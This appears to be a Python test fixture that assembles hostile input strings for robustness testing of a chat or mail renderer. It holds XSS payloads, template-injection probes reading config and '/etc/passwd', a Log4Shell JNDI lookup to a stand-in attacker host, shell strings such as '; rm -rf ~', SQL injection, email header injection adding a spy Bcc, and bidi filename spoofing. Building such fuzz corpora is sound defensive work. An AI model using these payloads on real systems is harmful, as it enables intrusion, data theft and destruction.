"""Strings that a hostile page could carry, all of them our own wording."""

_BIDI = [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)]
_INVISIBLE = ["\u200b", "\u2060", "\ufeff", "\u00ad", "\u3164", "\U000e0041", "\u034f", "\ufe0f"]
_CONTROLS = [chr(c) for c in (0, 7, 8, 9, 10, 11, 12, 13, 27, 127, 0x85, 0x9B, 0x2028, 0x2029)]
_TAGS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style>{font-family:'<iframe/onload=confirm()>'",
    '"><a href="https://evil.example.net">here</a>',
    "'><b style=position:fixed>",
    "<iframe src=https://evil.example.net>",
    "<form action=https://evil.example.net><input name=q>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example.net/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example.net>",
    "<base href=https://evil.example.net>",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[x]]>",
    "</p></div></body></html>",
    "</title><script>1</script>",
    "</blockquote>",
    "<mx-reply>quoted</mx-reply>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<object data=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;lt;b&amp;gt;",
    "\\x3cscript\\x3e",
    "%3Cscript%3E",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a\thref=javascript:alert(1)>x",
    "<A HREF=//evil.example.net/>x</A>",
    "<img/src='x'/onerror=alert`1`>",
    "`><img src=x onerror=alert(1)>",
]
_TEMPLATES = [
    "{{ 7*7 }}",
    "{{ config }}",
    "{% raw %}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "{{ ''.__class__.__mro__ }}",
    "%s",
    "%(name)s",
    "%n%n%n",
    "{0.__class__}",
    "{notice}",
    "${jndi:ldap://evil.example.net/a}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "$(id)",
    "`id`",
    "; rm -rf ~",
    "' OR 1=1 --",
    "\\N{DIGIT ONE}",
]
_HEADERS = [
    "x\r\nBcc: spy@evil.example.net",
    "x\nBcc: spy@evil.example.net",
    "x\rBcc: spy@evil.example.net",
    "x\r\n\r\n<html>body",
    "x\x85Bcc: spy@evil.example.net",
    "x\u2028Bcc: spy@evil.example.net",
    "=?utf-8?Q?Hi=0ABcc:_spy@evil.example.net?=",
    "=?utf-8?B?SGkKQmNjOiBzcHlAZXZpbC5leGFtcGxlLm5ldA==?=",
    "=?utf-8?q?=0d=0aBcc:x?=",
    "a" * 900,
    "ü" * 900,
    "word " * 300,
    ".",
    "\r\n.\r\nMAIL FROM:<spy@evil.example.net>",
    "From: someone else",
    '"unbalanced',
    "(unbalanced",
    "<unbalanced",
    "a@b, c@d",
]
_CALLS = [
    "@room look",
    "@ROOM",
    "@ana:example.org",
    "#ops:example.org",
    "!abc:example.org",
    "https://matrix.to/#/@ana:example.org",
    "matrix:u/ana:example.org",
    "https://evil.example.net/login",
    "HTTP://EVIL.EXAMPLE.NET",
    "www.evil.example.net",
    "javascript:alert(1)",
    "data:text/html,x",
    "mailto:spy@evil.example.net",
    "tel:+100000000",
    "[click](https://evil.example.net)",
    "![x](https://evil.example.net/x.png)",
    "**bold** _it_ `code`",
    "<@everyone>",
    "@everyone @here",
]
_SHAPES = [
    "",
    " ",
    "\ud800",
    "\udfff lone",
    "\uffff",
    "\U0010ffff",
    "Z" + "\u0334\u0335\u0336\u0301" * 40,
    "\u0645\u062d\u0645\u062f (1) - 2026",
    "\u05d0\u05d1 <b> 12",
    "👩‍👩‍👧‍👦",
    "x" * 100_000,
    "e\u0301" * 5000,
    "ﷺ" * 200,
    "\u0000" * 50,
    "1" * 3000,
    "-- \nSent by someone else",
]

HOSTILE = (
    [f"Ana{char}Paz .gpj.exe" for char in (*_BIDI, *_INVISIBLE, *_CONTROLS)]
    + _TAGS
    + _TEMPLATES
    + _HEADERS
    + _CALLS
    + _SHAPES
)


def _coded(text: str) -> str:
    return "".join(f"&#{ord(char)};" for char in text)


# The same in what a page may wrap them: other cases, codes, scripts, quotes and breaks.
_CARRIERS = (
    lambda text: f"\u202e\u05d0\u05d1 {text} \u0645\u062d\u0645\u062f",
    lambda text: f"\">'`{text.swapcase()}<!--",
    lambda text: _coded(text[:200]),
    lambda text: f"{text}\r\n\r\n{text}\x00\u2028",
    lambda text: "\u200b".join(text[:200]),
)
CARRIED = [carry(text) for text in (*_TAGS, *_TEMPLATES, *_HEADERS, *_CALLS) for carry in _CARRIERS]
